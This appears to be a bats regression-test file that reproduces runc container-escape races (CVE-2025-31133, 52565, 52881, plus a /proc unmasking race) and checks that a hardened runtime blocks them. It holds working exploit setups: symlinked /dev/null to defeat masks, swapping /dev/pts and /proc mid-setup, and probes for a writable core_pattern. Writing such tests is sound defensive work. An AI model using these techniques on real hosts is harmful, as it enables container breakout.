#!/usr/bin/env bats
# Attacks on what a runtime hides and writes: masks, the terminal, settings of the kernel; and on control groups. The
# victim is Debian's runc where it is open to them.
load ../lib/common
load ../lib/bundle
load ../lib/gauntlet

setup_file() { gauntlet_setup_file; }
teardown_file() { bundle_teardown_file; }
setup() { export D=$BATS_TEST_TMPDIR/b R=$BATS_TEST_TMPDIR/r; }
teardown() { still; bundle_teardown; }

once() {
  victim "$1" run -b "$D" once </dev/null >"$D/out" 2>&1 || true
  gone "$1" once
}

# CVE-2025-31133: a masked file is covered with the container's /dev/null. Where that is a link the file is covered with
# what the link leads to, writable; where it goes missing meanwhile, the file is not covered at all. Stopped by: the null device is the
# host's, taken by a descriptor that was seen to be character device 1:3 (runtime/masks.c).
look_under_mask() { # VICTIM NULL
  mkdir -p "$BATS_TEST_TMPDIR/dev"/{pts,shm,mqueue}
  rm -f "$BATS_TEST_TMPDIR/dev/null"
  [ "$2" = missing ] || ln -s "$2" "$BATS_TEST_TMPDIR/dev/null"
  own_root "$R"
  echo "masked secret" >"$R/masked"; echo "of the attacker" >"$R/forged"
  OCI_COMMAND='cat /masked; echo "still here" >/masked; cat /forged' bundle "$D" ".root = {path: \"$R\", readonly: false}
    | .linux.maskedPaths = [\"/masked\"]
    | .mounts |= map(if .destination == \"/dev\" then {destination: \"/dev\", type: \"bind\", source: \"$BATS_TEST_TMPDIR/dev\", options: [\"rbind\"]} else . end)"
  once "$1"
  rm -rf "$R"
  cat "$D/out"
  grep -q 'masked secret\|still here' "$D/out"
}

@test "CVE-2025-31133: what is masked stays so, whatever the container's /dev/null is" {
  works look_under_mask runc /forged
  stopped look_under_mask tare missing
  stopped look_under_mask tare /forged
}

# shared_root: a root that somebody else holds, too, with two folders to be exchanged.
shared_root() { # NAME
  rm -rf "$R"
  own_root "$R"
  mkdir -p "$R/$1" "$R/$1.forged"
}

# CVE-2025-52565: /dev/console is covered with /dev/pts/N, by name. Whoever exchanges /dev/pts in between has another file
# mounted there, before anything is masked or read-only. Stopped by: the terminal's other end comes from its descriptor
# (TIOCGPTPEER), and that very descriptor is mounted.
forge_console() { # VICTIM ROUNDS
  local round code=1 i
  shared_root dev/pts
  for i in $(seq 0 40); do echo forged >"$R/dev/pts.forged/$i"; done
  ln -sf pts/ptmx "$R/dev/ptmx"
  OCI_COMMAND='[ -c /dev/console ] || cat /dev/console >/found' bundle "$D" ".root = {path: \"$R\", readonly: false} | .process.terminal = true
    | .mounts |= map(select(.destination | test(\"^/dev$|^/dev/(shm|mqueue)\") | not))"
  exchanging "$R/dev/pts" "$R/dev/pts.forged"
  for round in $(seq "$2"); do
    in_time || break
    timeout 5 script -qec "$(declare -f victim); victim $1 run -b $D once" /dev/null </dev/null >"$D/out" 2>&1 3>&- || true
    gone "$1" once
    [ ! -e "$R/found" ] || { code=0; break; }
  done
  still
  echo "round $round of $2:"; cat "$D/out" "$R/found" || true
  rm -rf "$R"
  return $code
}

@test "CVE-2025-52565: /dev/console is the terminal, whatever /dev/pts has become meanwhile" {
  works forge_console runc 400
  stopped forge_console tare 60
}

# CVE-2025-52881: what a runtime writes to /proc goes by the container's own /proc. Whoever exchanges that meanwhile leads
# a sysctl's value (or a label) to another file: to sysrq-trigger for one, or to none that has an effect. Stopped by:
# settings are written through a procfs of the runtime's own, without following links.
divert_sysctl() { # VICTIM ROUNDS
  local round code=1
  shared_root proc
  mkdir -p "$R/proc.forged/sys/net/ipv4"; ln -s /diverted "$R/proc.forged/sys/net/ipv4/ip_default_ttl"
  bundle "$D" ".root = {path: \"$R\", readonly: false} | .linux.sysctl = {\"net.ipv4.ip_default_ttl\": \"77\"}"
  exchanging "$R/proc" "$R/proc.forged"
  for round in $(seq "$2"); do
    in_time || break
    : >"$R/diverted"
    once "$1"
    [ ! -s "$R/diverted" ] || { code=0; break; }
  done
  still
  echo "round $round of $2: diverted: $(cat "$R/diverted")"; cat "$D/out"
  rm -rf "$R"
  return $code
}

@test "CVE-2025-52881: a sysctl is set, whatever /proc has become meanwhile" {
  works divert_sysctl runc 200
  stopped divert_sysctl tare 60
}

# The same race against what is masked: the procfs ends up under another name, where no mask was put.
unmask_proc() { # VICTIM ROUNDS
  local round code=1
  shared_root proc
  mkdir -p "$R/proc.forged/sys"; touch "$R/proc.forged/timer_list"
  OCI_COMMAND='for p in $(awk "\$3 == \"proc\" { print \$2 }" /proc/mounts /proc.forged/mounts 2>/dev/null | sort -u); do
      for at in /proc /proc.forged; do
        [ -d $at/self ] || continue
        head -c 9 $at/timer_list | grep -q . && echo "open: $at/timer_list"
        ( : >>$at/sys/kernel/core_pattern ) && echo "writable: $at/sys"
      done; done; true' bundle "$D" ".root = {path: \"$R\", readonly: false}"
  exchanging "$R/proc" "$R/proc.forged"
  for round in $(seq "$2"); do
    in_time || break
    once "$1"
    ! grep -q '^open\|^writable' "$D/out" || { code=0; break; }
  done
  still
  echo "round $round of $2:"; cat "$D/out"
  rm -rf "$R"
  return $code
}

@test "what is masked in /proc stays so, whatever /proc has become meanwhile" {
  works unmask_proc runc 200
  works unmask_proc weak:anchor 200
  stopped unmask_proc tare 60
}
